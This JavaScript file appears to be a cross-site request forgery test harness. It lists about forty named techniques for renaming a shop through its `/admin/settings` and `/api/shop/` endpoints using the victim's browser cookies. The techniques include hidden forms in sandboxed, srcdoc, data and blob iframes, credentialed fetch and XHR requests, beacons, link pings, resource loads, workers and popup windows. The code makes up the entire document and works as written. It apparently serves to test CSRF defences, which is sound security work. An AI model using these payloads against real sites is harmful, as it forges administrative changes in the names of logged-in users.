// Each attack tries to rename the shop at `target`, with the cookie that the browser has of it.
((target) => {
  const fields = { name: "Stolen", currency: "EUR", language: "en", weight_unit: "kg", storefront_origins: "" };
  const url = `${target}/admin/settings`;
  const body = new URLSearchParams(fields).toString();
  const form = (options = {}) => {
    const element = document.createElement("form");
    Object.assign(element, { method: "post", action: url, ...options });
    for (const [name, value] of Object.entries(fields)) {
      const input = document.createElement("input");
      Object.assign(input, { type: "hidden", name, value });
      element.append(input);
    }
    document.body.append(element);
    return element;
  };
  const frame = (attributes = {}) => {
    const element = document.createElement("iframe");
    for (const [name, value] of Object.entries({ name: `frame-${Math.random()}`, ...attributes })) element.setAttribute(name, value);
    document.body.append(element);
    return element;
  };
  const into = (options) => form({ target: frame().name, ...options });
  const element = (tag, attributes) => {
    const found = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) found.setAttribute(name, value);
    document.body.append(found);
    return found;
  };
  const send = (method, type, options = {}) => fetch(url, {
    method, credentials: "include", mode: "no-cors",
    ...(type ? { headers: { "Content-Type": type } } : {}), ...(method === "GET" ? {} : { body }), ...options,
  }).catch(() => {});
  const request = (method, type) => {
    const found = new XMLHttpRequest();
    found.open(method, url);
    found.withCredentials = true;
    found.setRequestHeader("Content-Type", type);
    found.send(body);
  };
  const encoded = "application/x-www-form-urlencoded";
  const query = `${url}?${body}`;
  return {
    "form in a frame": () => into().submit(),
    "form by its button": () => { const f = into(); const b = document.createElement("button"); f.append(b); b.click(); },
    "form by requestSubmit": () => into().requestSubmit(),
    "form as multipart": () => into({ enctype: "multipart/form-data" }).submit(),
    "form as text": () => into({ enctype: "text/plain" }).submit(),
    "form by formaction": () => { const f = into({ action: "/" }); const b = document.createElement("button"); b.formAction = url; f.append(b); b.click(); },
    "form with GET": () => into({ method: "get" }).submit(),
    "form in a sandboxed frame": () => form({ target: frame({ sandbox: "allow-forms" }).name }).submit(),
    "form without referrer": () => into({ rel: "noreferrer" }).submit(),
    "form in a srcdoc frame": () => frame({ srcdoc: `${into().outerHTML}<script>document.forms[0].submit()</script>` }),
    "form in a data frame": () => frame({ src: `data:text/html,${encodeURIComponent(`${into().outerHTML}<script>document.forms[0].submit()</script>`)}` }),
    "form in a blob frame": () => frame({ src: URL.createObjectURL(new Blob([`${into().outerHTML}<script>document.forms[0].submit()</script>`], { type: "text/html" })) }),
    "fetch as a form": () => send("POST", encoded),
    "fetch as text": () => send("POST", "text/plain"),
    "fetch kept alive": () => send("POST", encoded, { keepalive: true }),
    "fetch with CORS": () => send("POST", encoded, { mode: "cors" }),
    "fetch as JSON": () => send("POST", "application/json", { mode: "cors" }),
    "fetch with PATCH": () => send("PATCH", encoded, { mode: "cors" }),
    "fetch with PUT": () => send("PUT", encoded, { mode: "cors" }),
    "fetch with DELETE": () => send("DELETE", encoded, { mode: "cors" }),
    "fetch without referrer": () => send("POST", encoded, { referrerPolicy: "no-referrer" }),
    "fetch of the API": () => fetch(`${target}/api/shop/`, { method: "POST", mode: "no-cors", credentials: "include", body: JSON.stringify({ name: "Stolen" }) }).catch(() => {}),
    "request as a form": () => request("POST", encoded),
    "request as text": () => request("POST", "text/plain"),
    "beacon as a form": () => navigator.sendBeacon(url, new URLSearchParams(fields)),
    "beacon as text": () => navigator.sendBeacon(url, body),
    "ping of a link": () => { const a = element("a", { href: "#", ping: url }); a.click(); },
    "image": () => element("img", { src: query }),
    "script": () => element("script", { src: query }),
    "style sheet": () => element("link", { rel: "stylesheet", href: query }),
    "frame": () => frame({ src: query }),
    "object": () => element("object", { data: query, type: "text/html" }),
    "events": () => new EventSource(query, { withCredentials: true }),
    "worker": () => new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(url)}, {method: "POST", mode: "no-cors", credentials: "include", headers: {"Content-Type": "${encoded}"}, body: ${JSON.stringify(body)}})`]))),
    "window": () => { const w = open(query); setTimeout(() => w?.close(), 1500); },
    "form in a window": () => form({ target: "_blank" }).submit(),
    "form of this page": () => form().submit(),
  };
})
